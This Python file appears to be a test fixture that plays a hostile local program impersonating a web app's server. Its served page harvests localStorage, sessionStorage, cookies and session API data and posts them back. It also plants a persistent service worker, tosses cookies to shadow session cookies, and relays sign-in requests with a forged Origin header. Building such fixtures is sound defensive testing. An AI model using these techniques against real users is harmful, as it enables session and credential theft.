"""Another user's program that listens on a port, answers cleverly, and keeps all it is sent.

    python3 stranger.py PORT [ADDRESS]

It is run by whatever Python every user of the machine can start, so it imports nothing of ours.
What it got is printed, a JSON object a line. With ADDRESS it passes what it is sent to sign in on
to a server there, and that one's words back.
"""

from __future__ import annotations

import http.client
import json
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

# Reads all that a page of the same origin can read, and leaves what outlives a visit.
PAGE = b"""<!doctype html><title>stranger</title><body><script>
(async () => {
  const held = { local: { ...localStorage }, session: { ...sessionStorage } };
  held.cookie = document.cookie;
  held.databases = await indexedDB.databases();
  held.caches = await caches.keys();
  const open = await fetch("/api/session").then((answer) => answer.json());
  await fetch("/held", { method: "POST", body: JSON.stringify({ held, open }) });
  if (location.pathname === "/worker") {
    // An open page of ours may remove a worker before it takes control: then once more.
    for (const workers = navigator.serviceWorker; !workers.controller;) {
      await workers.register("/worker.js").catch(() => null);
      await new Promise((resolve) => {
        workers.addEventListener("controllerchange", resolve, { once: true });
        setTimeout(resolve, 1000);
      });
    }
  }
  document.title = "stranger is ready";
})();
</script>"""
TOSSING = b"<!doctype html><title>tossing</title>"
WORKER = b"""
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(clients.claim()));
const page = "<!doctype html><title>stranger's worker</title>";
const headers = { "Content-Type": "text/html" };
self.addEventListener("fetch", (event) => event.respondWith(new Response(page, { headers })));
"""


LOCK = threading.Lock()


def note(what: dict[str, Any]) -> None:
    """Print it as one line, whatever the other threads do."""
    with LOCK:
        print(json.dumps(what), flush=True)


class Stranger(BaseHTTPRequestHandler):
    """Says yes to everything."""

    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        """A page, a script, an answer: whatever was asked for."""
        self._note("")
        if self.path.startswith("/toss"):
            paths = ["/api", "/socket.io"] if self.path == "/toss-beside" else ["/"]
            cookies = [f"cpt-studio-{OURS}=x; Path={path}" for path in paths]
            return self._answer(TOSSING, "text/html", [("Set-Cookie", one) for one in cookies])
        if self.headers.get("Service-Worker"):
            return self._answer(WORKER, "text/javascript")
        if self.path.startswith("/socket.io/"):
            hello = {"sid": "s", "upgrades": [], "pingInterval": 25000, "pingTimeout": 20000}
            return self._answer(
                b"0" + json.dumps({**hello, "maxPayload": 1000000}).encode(), "text/plain"
            )
        if self.path.startswith("/api/"):
            return self._answer(
                b'{"session": "1.0", "key": "AAAA", "boot": "b"}', "application/json"
            )
        if self.path.endswith(".js"):
            script = b"fetch('/held', {method: 'POST', body: 'a script of the stranger runs'})"
            return self._answer(script, "text/javascript", [("Cache-Control", "max-age=99999")])
        return self._answer(PAGE, "text/html", [("Cache-Control", "max-age=99999")])

    def do_POST(self) -> None:
        """Sign-in, commands, polls."""
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
        self._note(body)
        if self.path.startswith("/enter") and len(sys.argv) > 2:
            return self._pass_on(body)
        answer = {"boot": "b" * 32, "challenge": f"1.{'0' * 32}.{'0' * 64}", "proof": "0" * 64}
        answer |= {"session": "1." + "0" * 32, "secret": "0" * 64}
        return self._answer(json.dumps(answer).encode(), "application/json")

    def _pass_on(self, body: str) -> None:
        connection = http.client.HTTPConnection(sys.argv[2])
        headers = {
            name: self.headers[name] for name in ("Cookie", "Content-Type") if name in self.headers
        }
        connection.request("POST", self.path, body, {**headers, "Origin": f"http://{sys.argv[2]}"})
        answer = connection.getresponse()
        said = answer.read()
        note({"passed_on": self.path, "status": answer.status, "said": said.decode()})
        self._answer(said, "application/json", status=answer.status)

    def _note(self, body: str) -> None:
        seen = {
            "method": self.command,
            "path": self.path,
            "headers": dict(self.headers),
            "body": body,
        }
        note(seen)

    def _answer(
        self,
        body: bytes,
        content: str,
        headers: list[tuple[str, str]] | None = None,
        status: int = 200,
    ) -> None:
        self.send_response(status)
        for name, value in headers or []:
            self.send_header(name, value)
        self.send_header("Content-Type", content)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        """Nothing but what was noted is printed."""


if __name__ == "__main__":
    PORT, _, OURS = sys.argv[1].partition("/")
    ThreadingHTTPServer.allow_reuse_address = True
    server = ThreadingHTTPServer(("127.0.0.1", int(PORT)), Stranger)
    note({"listens": int(PORT)})
    server.serve_forever()
